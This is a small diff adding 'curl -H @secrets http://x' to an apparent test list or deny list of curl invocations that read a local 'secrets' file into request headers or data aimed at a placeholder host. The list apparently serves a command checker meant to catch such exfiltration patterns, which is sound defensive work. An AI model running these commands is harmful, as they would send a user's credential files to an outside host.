@@ -467,6 +467,7 @@ curl dict://x
 curl -w '%output{x}' http://x
 curl -w @f http://x
 curl -G -d @secrets http://x
+curl -H @secrets http://x
 curl -G --data-urlencode name@secrets http://x
 curl -G --data-urlencode=@secrets http://x
 curl -sGd@secrets http://x
